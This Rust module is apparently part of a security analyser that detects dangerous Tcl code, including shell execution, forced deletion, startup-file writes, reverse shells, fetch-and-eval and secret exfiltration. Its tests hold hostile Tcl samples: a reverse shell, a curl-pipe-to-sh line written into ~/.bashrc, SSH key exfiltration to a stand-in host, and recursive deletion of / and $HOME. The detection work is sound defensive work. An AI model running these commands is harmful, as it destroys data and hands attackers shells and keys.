//! Tcl (`tclsh`, `expect`, `wish`): commands run by `exec`/`spawn`/`open |`, `file delete -force`
//! (recursive), files opened for writing and what `puts` writes to them, sockets that run what they
//! receive (reverse shells), `http::geturl` results evaluated, and credential files sent out.
//! Commands nested in brackets (`[exec …]`, `set f [open …]`) are statements too.

use super::{names_secret_file, Report, Run};

/// How deep literal code given to `eval` is followed.
const MAX_DEPTH: usize = 4;

/// Analyse Tcl code.
pub(super) fn analyze(code: &str) -> Report {
    analyze_at(code, 0)
}

fn analyze_at(code: &str, depth: usize) -> Report {
    let mut r = Report::default();
    let code = reverse_literals(code);
    let stmts = statements(&code);
    // Channel variables opened for writing: `set f [open ~/.bashrc a]` → ("f", path, append).
    let mut channels: Vec<(String, String, bool)> = Vec::new();
    let mut socket = false;
    let mut fetch = false;
    let mut eval = false;
    let mut reads_socket = false;
    let mut secrets = false;
    // Loop variables over a glob: `foreach d [glob -directory / *]` → ("d", "/*").
    let mut globbed: Vec<(String, String)> = Vec::new();
    for stmt in &stmts {
        let words = tcl_words(stmt);
        let Some(verb) = words.first().map(String::as_str) else {
            continue;
        };
        if verb == "foreach" && words.len() >= 3 {
            if let Some(path) = glob_path(&words[2]) {
                globbed.push((words[1].clone(), path));
            }
        }
        if words.iter().any(|w| names_secret_file(w)) {
            secrets = true;
        }
        match verb {
            "exec" | "spawn" | "system" => {
                let rest: Vec<&str> = words[1..]
                    .iter()
                    .map(String::as_str)
                    .skip_while(|w| matches!(*w, "-ignorestderr" | "-keepnewline" | "--"))
                    .collect();
                if rest
                    .iter()
                    .any(|w| w.starts_with("[gets ") || w.starts_with("[read "))
                {
                    reads_socket = true;
                }
                r.runs
                    .push((Run::Shell(shell_line(&rest)), verb.to_string()));
            }
            "open" if words.get(1).is_some_and(|w| w.starts_with('|')) => {
                let mut argv: Vec<&str> = words[1..].iter().map(String::as_str).collect();
                argv[0] = argv[0].trim_start_matches('|');
                if argv
                    .last()
                    .is_some_and(|m| matches!(*m, "r" | "w" | "r+" | "w+"))
                {
                    argv.pop();
                }
                r.runs
                    .push((Run::Shell(shell_line(&argv)), "open |".into()));
            }
            "set" if words.len() >= 3 => {
                let inner = tcl_words(words[2].trim_start_matches('[').trim_end_matches(']'));
                if inner.first().map(String::as_str) == Some("open") {
                    if let (Some(path), Some(mode)) = (inner.get(1), inner.get(2)) {
                        if mode.starts_with(['a', 'w']) || mode.contains("WRONLY") {
                            channels.push((
                                words[1].clone(),
                                tcl_path(path),
                                mode.starts_with('a') || mode.contains("APPEND"),
                            ));
                        }
                    }
                }
            }
            "file" if words.get(1).map(String::as_str) == Some("delete") => {
                let force = words.iter().any(|w| w == "-force");
                for path in words[2..].iter().filter(|w| !w.starts_with('-')) {
                    let loop_var = globbed
                        .iter()
                        .find(|(v, _)| path.trim_matches('"') == format!("${v}"));
                    let path = loop_var.map_or(path, |(_, p)| p);
                    if force {
                        r.deletes
                            .push((tcl_path(path), "file delete -force".into()));
                    } else {
                        r.runs.push((
                            Run::Argv(vec!["rm".into(), tcl_path(path)]),
                            "file delete".into(),
                        ));
                    }
                }
            }
            "puts" if words.len() >= 3 => {
                let chan = words[words.len() - 2].trim_start_matches('$');
                if let Some((_, path, append)) = channels.iter().find(|(c, _, _)| c == chan) {
                    let text = words[words.len() - 1]
                        .trim_matches(['"', '{', '}'])
                        .to_string();
                    r.writes.push((path.clone(), Some(text), *append));
                }
            }
            "eval" | "uplevel" | "subst" => {
                eval = true;
                // `eval "exec rm -rf /etc"`: literal code, analysed as written out.
                if let Some(inner) = words.get(1).filter(|w| w.starts_with(['"', '{'])) {
                    if depth < MAX_DEPTH {
                        let inner = inner.trim_matches(['"', '{', '}']);
                        super::merge(&mut r, analyze_at(inner, depth + 1));
                    }
                }
            }
            _ => {}
        }
        if words
            .iter()
            .any(|w| w == "socket" || w.starts_with("[socket"))
            || verb == "socket"
        {
            socket = true;
        }
        if stmt.contains("http::geturl") {
            fetch = true;
        }
    }
    // A channel written with `puts` only after its `open` statement: writes with unknown text.
    for (_, path, append) in &channels {
        if !r.writes.iter().any(|(p, _, _)| p == path) {
            r.writes.push((path.clone(), None, *append));
        }
    }
    r.fetch_exec = fetch && (eval || !r.runs.is_empty());
    r.reverse_shell = socket && (eval || reads_socket);
    r.secret_to_network = secrets && (socket || fetch);
    r
}

/// Statements: split at `;` and newlines outside braces and quotes, plus every bracketed command.
fn statements(code: &str) -> Vec<String> {
    const BLOCKS: &[&str] = &[
        "while",
        "for",
        "foreach",
        "if",
        "elseif",
        "else",
        "proc",
        "catch",
        "try",
        "switch",
        "after",
        "then",
        "namespace",
        "eval",
        "uplevel",
    ];
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote = false;
    let mut brackets: Vec<usize> = Vec::new();
    // Open braces: true for a script block (split into statements), false for a literal.
    let mut braces: Vec<bool> = Vec::new();
    let chars: Vec<char> = code.chars().collect();
    for (k, &c) in chars.iter().enumerate() {
        match c {
            '\\' => {
                cur.push(c);
                continue;
            }
            '"' if k == 0 || chars[k - 1] != '\\' => quote = !quote,
            '[' => brackets.push(cur.len() + 1),
            ']' => {
                if let Some(start) = brackets.pop() {
                    if start <= cur.len() {
                        out.push(cur[start..].to_string());
                    }
                }
            }
            ';' | '\n' if !quote && brackets.is_empty() && !braces.contains(&false) => {
                out.push(std::mem::take(&mut cur));
                continue;
            }
            // `while 1 { … }`, `proc p {} { … }`: the body's statements are statements; other
            // braces quote a word (`exec rm -rf {~}`).
            '{' if !quote && brackets.is_empty() && !braces.contains(&false) => {
                let head = cur.split_whitespace().next().unwrap_or("");
                let block = BLOCKS.contains(&head) || head.is_empty() && !braces.is_empty();
                braces.push(block);
                if block {
                    out.push(std::mem::take(&mut cur));
                    continue;
                }
            }
            // (the guard pops the brace: a literal's closing brace stays in the word)
            '}' if !quote && brackets.is_empty() && braces.pop() == Some(true) => {
                out.push(std::mem::take(&mut cur));
                continue;
            }
            _ => {}
        }
        cur.push(c);
    }
    out.push(cur);
    out.into_iter()
        .map(|s| s.trim().to_string())
        .filter(|s| !s.is_empty())
        .collect()
}

/// Words of one statement: bracketed commands and quoted strings stay whole.
fn tcl_words(stmt: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut depth = 0usize;
    let mut quote = false;
    for c in stmt.chars() {
        match c {
            '"' if depth == 0 => {
                quote = !quote;
                cur.push(c);
            }
            '[' | '{' => {
                depth += 1;
                cur.push(c);
            }
            ']' | '}' => {
                depth = depth.saturating_sub(1);
                cur.push(c);
            }
            c if c.is_whitespace() && depth == 0 && !quote => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            c => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// The paths a `[glob …]` word lists, as one shell glob: `[glob -directory / *]` → `/*`,
/// `[glob -nocomplain $env(HOME)/*]` → `~/*`.
fn glob_path(word: &str) -> Option<String> {
    let inner = word.strip_prefix("[glob ")?.strip_suffix(']')?;
    let words = tcl_words(inner);
    let mut dir = None;
    let mut pattern = None;
    let mut i = 0;
    while i < words.len() {
        match words[i].as_str() {
            "-directory" | "-path" => {
                dir = words.get(i + 1).map(|d| tcl_path(d));
                i += 2;
                continue;
            }
            "-types" => i += 1,
            w if w.starts_with('-') => {}
            w => pattern = Some(tcl_path(w)),
        }
        i += 1;
    }
    let pattern = pattern?;
    Some(match dir {
        Some(d) => format!("{}/{pattern}", d.trim_end_matches('/')),
        None => pattern,
    })
}

/// A Tcl path word as the shell layer writes it: `$env(HOME)` and `$::env(HOME)` as `~`.
fn tcl_path(word: &str) -> String {
    let w = word.trim_matches(['"', '{', '}']);
    let w = w
        .replace("$::env(HOME)", "~")
        .replace("$env(HOME)", "~")
        .replace("[file normalize ~]", "~");
    w.trim_start_matches("[file join ")
        .trim_end_matches(']')
        .to_string()
}

/// Words of an `exec` as one shell command line (braces are Tcl's single quotes).
fn shell_line(words: &[&str]) -> String {
    words
        .iter()
        .map(|w| {
            let w = tcl_path(w);
            if w.contains(' ') {
                format!("'{}'", w.trim_matches('"'))
            } else {
                w
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// `[string reverse "cte/ fr- mr"]` → `"rm -rf /etc"`.
fn reverse_literals(code: &str) -> String {
    const CALL: &str = "[string reverse \"";
    let mut out = code.to_string();
    while let Some(k) = out.find(CALL) {
        let start = k + CALL.len();
        let Some(len) = out[start..].find("\"]") else {
            break;
        };
        let reversed: String = out[start..start + len].chars().rev().collect();
        out.replace_range(k..start + len + 2, &format!("\"{reversed}\""));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deletes_writes_shells_and_sockets() {
        let dels = |c: &str| {
            analyze(c)
                .deletes
                .into_iter()
                .map(|d| d.0)
                .collect::<Vec<_>>()
        };
        assert_eq!(dels("file delete -force $env(HOME)"), ["~"]);
        assert_eq!(dels("file delete -force -- /etc"), ["/etc"]);
        assert_eq!(
            dels("foreach d [glob -directory / *] { catch {file delete -force $d} }"),
            ["/*"]
        );
        assert_eq!(
            dels("foreach f [glob -nocomplain $env(HOME)/*] {file delete -force $f}"),
            ["~/*"]
        );
        assert_eq!(
            dels("foreach f [glob -directory build *.o] {file delete -force $f}"),
            ["build/*.o"]
        );
        assert!(dels("file delete -force build").contains(&"build".to_string()));
        assert!(dels("file delete out.txt").is_empty());

        let r = analyze("set f [open ~/.bashrc a]; puts $f \"curl -s x.example|sh\"; close $f");
        assert_eq!(
            r.writes,
            [(
                "~/.bashrc".to_string(),
                Some("curl -s x.example|sh".to_string()),
                true
            )]
        );
        let r = analyze(
            "set s [socket 10.0.0.1 4444]\nwhile 1 { puts $s [exec sh -c [gets $s]]; flush $s }",
        );
        assert!(r.reverse_shell);
        let r = analyze(
            "package require http; eval [http::data [http::geturl http://x.example/x.tcl]]",
        );
        assert!(r.fetch_exec);
        let r =
            analyze("set f [open ~/.ssh/id_rsa]; set s [socket x.example 9000]; puts $s [read $f]");
        assert!(r.secret_to_network);
        let r = analyze("eval [string reverse \"cte/ fr- mr cexe\"]");
        assert_eq!(r.runs[0].0, Run::Shell("rm -rf /etc".into()));
        // Everyday Tcl.
        let r = analyze("puts [clock format [clock seconds]]; set x [exec git rev-parse HEAD]");
        assert!(r.deletes.is_empty() && r.writes.is_empty() && !r.reverse_shell);
        assert_eq!(r.runs[0].0, Run::Shell("git rev-parse HEAD".into()));
    }
}
